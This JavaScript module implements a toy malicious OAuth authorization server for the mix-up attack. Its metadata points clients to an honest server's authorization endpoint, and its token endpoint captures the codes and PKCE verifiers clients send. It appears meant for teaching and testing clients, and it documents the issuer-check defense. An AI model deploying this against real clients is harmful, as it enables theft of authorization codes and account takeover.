/**
 * mix-up-auth-server.mjs: a malicious authorization server, for the mix-up
 * attack (RFC 9207, https://www.rfc-editor.org/rfc/rfc9207#section-1).
 *
 * A client that works with several authorization servers keeps, for each
 * authorization request, the issuer it started with. This server is one of
 * them, and its operator wants the codes another, honest server issues
 * (auth-server.mjs). It needs no break-in, only two lines of metadata:
 * 1. GET /.well-known/oauth-authorization-server (and the OpenID Connect
 *    path): its own issuer, but the HONEST server's authorization endpoint,
 *    and its own token endpoint. A client that follows this metadata sends
 *    the person to the honest server, where the consent page is genuine and
 *    the person says yes, and the code comes back to the client.
 * 2. POST /token: the client, believing the code came from this server,
 *    sends it here, with its PKCE code_verifier (PKCE does not help: the
 *    verifier goes wherever the code goes). This server keeps both and
 *    answers with an ordinary-looking error; this toy also says in the
 *    answer what it kept, so the reader can see it. The attacker now
 *    redeems them at the honest token endpoint.
 *
 * What stops it is on the client's side: the honest server puts its issuer
 * in the redirect (`iss`), and the client compares it with the issuer it
 * recorded for this request, exactly, before the code goes anywhere. Here
 * they differ (the honest issuer, not this one), so the client drops the
 * code. https://modelcontextprotocol.io/specification/2026-07-28/basic/authorization#authorization-response-validation
 * and https://modelcontextprotocol.io/docs/2026-07-28/tutorials/security/security_best_practices#mix-up-attacks
 *
 * Use it two ways:
 * - as a program: `node toy-servers/mix-up-auth-server.mjs [port]` listens
 *   on 127.0.0.1 (port from the argument, else TOY_MIXUP_PORT, else 9001);
 * - as a module: `handle(Request)` is the WHATWG fetch handler.
 *
 * Environment:
 *   TOY_MIXUP_ISSUER   its issuer (default: the origin each request came to)
 *   TOY_HONEST_ISSUER  the honest server whose endpoint it names
 *                      (default http://127.0.0.1:9000, auth-server.mjs's default)
 */
import process from 'node:process';
import { isMainModule, log, serveOnLoopback } from './plumbing.mjs';

/** The honest authorization server it points clients at. */
export const HONEST_ISSUER = process.env.TOY_HONEST_ISSUER || 'http://127.0.0.1:9000';

/**
 * The fetch handler: `(request: Request) => Promise<Response>`; never throws.
 * Answers the two metadata paths and POST /token; anything else is 404.
 */
export async function handle(request) {
  const url = new URL(request.url);
  const issuer = process.env.TOY_MIXUP_ISSUER || url.origin;
  const route = `${request.method} ${url.pathname}`;

  // 1. Metadata that looks like any other, but for one endpoint.
  if (route === 'GET /.well-known/oauth-authorization-server' || route === 'GET /.well-known/openid-configuration') {
    return json(200, {
      issuer,
      authorization_endpoint: `${HONEST_ISSUER}/authorize`, // the honest server's, not this one's
      token_endpoint: `${issuer}/token`,
      scopes_supported: ['calendar.read', 'calendar.write'],
      response_types_supported: ['code'],
      grant_types_supported: ['authorization_code', 'refresh_token'],
      token_endpoint_auth_methods_supported: ['none'],
      code_challenge_methods_supported: ['S256'],
      client_id_metadata_document_supported: true,
      authorization_response_iss_parameter_supported: true,
    });
  }

  // 2. Whatever a client sends here is kept; the answer looks like an expired code.
  if (route === 'POST /token') {
    const form = new URLSearchParams(await request.text());
    const kept = Object.fromEntries(['code', 'code_verifier', 'client_id', 'redirect_uri', 'resource'].map((k) => [k, form.get(k)]));
    log(`mix-up-auth-server: kept ${JSON.stringify(kept)}; an attacker redeems it at ${HONEST_ISSUER}/token`);
    return json(400, {
      error: 'invalid_grant',
      error_description: 'the code is unknown or has expired',
      // Not something an attacker would send: the toy shows the reader what it took.
      kept_by_this_server: kept,
    }, { 'cache-control': 'no-store' });
  }

  return json(404, { error: 'not_found', error_description: `No endpoint ${route}` });
}

function json(status, body, headers = {}) {
  return new Response(JSON.stringify(body), { status, headers: { 'content-type': 'application/json', ...headers } });
}

// ---------------------------------------------------------------------------
// Run as a program: serve handle() on 127.0.0.1 (plumbing.mjs's node:http binding).
// ---------------------------------------------------------------------------

if (isMainModule(import.meta.url)) {
  const port = Number(process.argv[2] ?? process.env.TOY_MIXUP_PORT ?? 9001);
  const origin = await serveOnLoopback(handle, port);
  log(`mix-up-auth-server: ready at ${origin}, sending clients to ${HONEST_ISSUER}/authorize and waiting for their codes at ${origin}/token`);
}
